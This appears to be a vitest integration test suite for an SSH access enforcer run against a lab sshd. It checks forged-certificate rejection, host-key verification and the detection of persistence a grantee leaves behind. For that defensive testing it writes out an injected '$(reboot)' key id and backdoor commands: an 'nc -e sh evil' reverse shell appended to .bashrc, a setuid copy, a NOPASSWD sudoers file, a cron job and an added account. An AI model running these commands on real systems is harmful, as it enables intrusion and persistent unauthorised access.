import { execFile } from 'node:child_process'
import { chmod, mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { expect, test } from 'vitest'
import { enforcerBooks } from '../../test/enforcer-books.ts'
import { millisUntil, opensshGrantee } from '../../test/openssh-grantee.ts'
import { describeAtSshd, labTarget } from '../../test/openssh-lab.ts'
import type { Credential } from './port.ts'

const run = promisify(execFile)

describeAtSshd(() => {
  const { at, open, end, present, cleanup } = opensshGrantee()
  const strangers = async () => (await at.connector.strangers?.(labTarget)) ?? []
  const graveWords = async (change?: Readonly<Record<string, unknown>>) => {
    const connector = at.lab.connector(at.books, change)
    const excess = (await connector.excess?.(labTarget)) ?? []
    return excess.filter(({ grave }) => grave).map(({ words }) => words)
  }

  /** What a thief of the CA's key makes. */
  const forged = async (keyId: string, serial: string): Promise<Credential> => {
    const folder = await mkdtemp(join(tmpdir(), 'halligan-thief-'))
    const key = join(folder, 'key')
    const { caKeyFile, port, hostKey } = at.lab.server
    await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key])
    const what = ['-I', keyId, '-n', 'deploy,root', '-z', serial, '-V', '+1h']
    await run('ssh-keygen', ['-q', '-s', caKeyFile, ...what, `${key}.pub`])
    const credential = {
      SSH_PRIVATE_KEY: await readFile(key, 'utf8'),
      SSH_CERTIFICATE: (await readFile(`${key}-cert.pub`, 'utf8')).trim(),
      SSH_KNOWN_HOSTS: `[127.0.0.1]:${port} ${hostKey}`,
      SSH_DESTINATIONS: `ssh://deploy@127.0.0.1:${port}`,
    }
    await rm(folder, { recursive: true })
    return credential
  }

  test('INV-20 the hash of a password is in no snapshot, locked or not', async () => {
    const before = await at.connector.snapshot(labTarget)
    for (const hash of ['$6$salt$hashed', '!$6$salt$hashed', '!!$6$salt$hashed']) {
      await at.lab.sh(`usermod -p '${hash}' deploy`)
      const after = await at.connector.snapshot(labTarget)
      expect(after).not.toBe(before)
      expect(after).not.toContain('hashed')
    }
    // In the old place, where hashes stood before there was a shadow file.
    await at.lab.sh(`sed -i 's/^deploy:x:/deploy:$6$salt$hashed:/' /etc/passwd`)
    expect(await at.connector.snapshot(labTarget)).not.toContain('hashed')
    // Without PAM, sshd lets nobody into an account that is locked.
    await at.lab.sh(
      `sed -i 's/^deploy:[^:]*:/deploy:x:/' /etc/passwd; usermod -p '*' deploy`,
    )
  })

  test('EN-26 whoever stole the CA key is let in nowhere, and is told of', async () => {
    expect(await strangers()).toEqual([])
    await open()
    const hostile = 'x\n$(reboot); "quoted"\t\u202e'
    for (const [keyId, serial] of [
      ['ada', '4711'],
      [hostile, '4712'],
      [at.grant, '4713'],
      ['g-nnnnnnnnnnnnnnnnnnnnnnnnnn', '4714'],
    ] as const)
      await expect(at.lab.login(await forged(keyId, serial))).rejects.toThrow(
        'Permission denied',
      )
    const found = await strangers()
    expect(found.map(({ what }) => what)).toEqual(Array(4).fill('foreign_certificate'))
    const told = found.map(({ object }) => object)
    expect(told).toContain('web: serial 4711, for deploy, key id ada')
    expect(told.join()).toContain(`serial 4713, for deploy, key id ${at.grant}`)
    expect(told.join()).not.toMatch(/[\n\t$()"\u202e]/)
    expect(await at.connector.standing(labTarget)).toEqual([at.grant])
    await end()
    expect(await present()).toEqual([])
    await at.lab.sh(`rm ${at.lab.server.state}/strangers/*`)
  })

  test('EN-26 a certificate that was replaced or has ended is nobody else’s', async () => {
    const lost = await open()
    const replaced = await at.connector.reseal(at.grant, labTarget)
    await expect(at.lab.login(lost)).rejects.toThrow('Permission denied')
    await end()
    await expect(at.lab.login(replaced)).rejects.toThrow('Permission denied')
    expect(await strangers()).toEqual([])
    expect(await at.lab.server.log()).toContain('revoked by file')
  })

  test('EN-25 a host that shows another key is asked nothing', async () => {
    await open()
    const { port, hostKey } = at.lab.server
    const other = `${hostKey.slice(0, -8)}AAAAAAAA`
    const hosts = { web: { host: '127.0.0.1', port, hostKey: other } }
    const deceived = at.lab.connector(at.books, { hosts })
    await expect(deceived.open()).rejects.toThrow('Host key verification failed')
    for (const asked of [
      () => deceived.end(at.grant, labTarget),
      () => deceived.probeAbsent(at.grant, labTarget),
      () => deceived.probePresent(at.grant, labTarget),
      () => deceived.standing(labTarget),
    ])
      await expect(asked()).rejects.toThrow('Host key verification failed')
    expect(await present()).toContain('admission')
    await end()
  })

  test('C-07 a host that refuses the enforcer’s own key is told apart', async () => {
    const key = { file: at.lab.server.caKeyFile }
    const refused = at.lab.connector(enforcerBooks(), { key })
    await expect(refused.standing(labTarget)).rejects.toMatchObject({
      name: 'CredentialRefused',
    })
  })

  test('what a grantee leaves to come back by is in the persistence diff', async () => {
    const before = await at.connector.snapshot(labTarget)
    await at.lab.login(
      await open(),
      `ssh-keygen -q -t ed25519 -N '' -C back -f k; cat k.pub >> .ssh/authorized_keys
       echo 'nc -e sh evil 1' >> .bashrc
       mkdir -p .config/systemd/user; echo '[Service]' > '.config/systemd/user/a b.service'
       cp /bin/true /var/tmp/halligan-setuid-$$; chmod u+s /var/tmp/halligan-setuid-$$
       echo $$ > /mnt/deploy/number`,
    )
    await at.lab.sh(`echo 'deploy ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/back
      echo '* * * * * deploy sh' > /etc/cron.d/back; useradd -m -d /mnt/back back
      echo 'deploy:x' | chpasswd -e; usermod -aG adm deploy`)
    await end()
    const after = await at.connector.snapshot(labTarget)
    const found = at.connector.difference(before, after, at.grant)
    await at.lab.sh(`rm -f /var/tmp/halligan-setuid-$(cat /mnt/deploy/number) /etc/sudoers.d/back
      rm -f /etc/cron.d/back; usermod -p '*' deploy`)
    const told = found.map(({ what, object }) => `${what} ${object}`)
    for (const [what, object] of [
      ['authorized_key_added', 'back (ED25519)'],
      ['file_changed', '/mnt/deploy/.bashrc'],
      ['file_added', '/mnt/deploy/.config/systemd/user/a b.service'],
      ['setuid_added', '/var/tmp/halligan-setuid-'],
      ['file_added', '/etc/sudoers.d/back'],
      ['file_added', '/etc/cron.d/back'],
      ['account_added', 'web: back'],
      ['password_changed', 'web: deploy'],
      ['group_changed', 'web: adm'],
    ] as const)
      expect(told.filter((each) => each.startsWith(what)).join('\n')).toContain(object)
    expect(told.join()).not.toContain('NOPASSWD')
  })

  test('a host as the page says is sound', async () => {
    expect(await graveWords()).toEqual([])
  })

  test('each thing that is wider than the work needs is grave', async () => {
    const { caKeyFile } = at.lab.server
    await chmod(caKeyFile, 0o644)
    const words = 'others than its owner can use the key of the CA'
    expect(await graveWords()).toEqual([words])
    await chmod(caKeyFile, 0o600)

    const accounts = (
      await graveWords({ profiles: { all: { principals: ['root'] } } })
    ).join()
    expect(accounts).toContain('root is root')
    expect(accounts).toContain("for root, sshd's revokedkeys is not")

    const { helper } = at.lab.server
    await at.lab.sh(`chmod g+w ${helper}`)
    expect(await graveWords()).toEqual(['web: others than root can change the helper'])
    await at.lab.sh(`chmod g-w ${helper}`)
  })

  test('an enforcer’s key that may run anything is grave', async () => {
    const keys = '/mnt/root/.ssh/authorized_keys'
    const config = '/etc/ssh/sshd_config'
    await at.lab.sh(`cp ${keys} /run/keys; sed -i 's/^.*command="[^"]*" //' ${keys}
      cp ${config} /run/config
      sed -i 's/^PermitRootLogin .*/PermitRootLogin prohibit-password/' ${config}
      kill -HUP "$(cat /run/sshd.pid)"`)
    await millisUntil(async () => {
      const words = await graveWords().catch((): string[] => [])
      return words.includes("web: the enforcer's key is not forced to its helper")
    })
    await at.lab.sh(`cp /run/keys ${keys}; cp /run/config ${config}
      kill -HUP "$(cat /run/sshd.pid)"`)
    await millisUntil(() =>
      graveWords().then(
        (words) => words.length === 0,
        () => false,
      ),
    )
  })

  test('cleanup leaves the revocation and nothing else of the grant', async () => {
    await at.lab.login(await open('login:recorded'), 'echo done')
    await end()
    expect(await present()).toEqual([])
    await cleanup()
    const left = await at.lab.sh(
      `cd ${at.lab.server.state}; find . -name '*${at.grant}*'; find /run/cgroup -name '*${at.grant}*'`,
    )
    expect(left).toBe(`./revoked/${at.grant}\n`)
  })
})
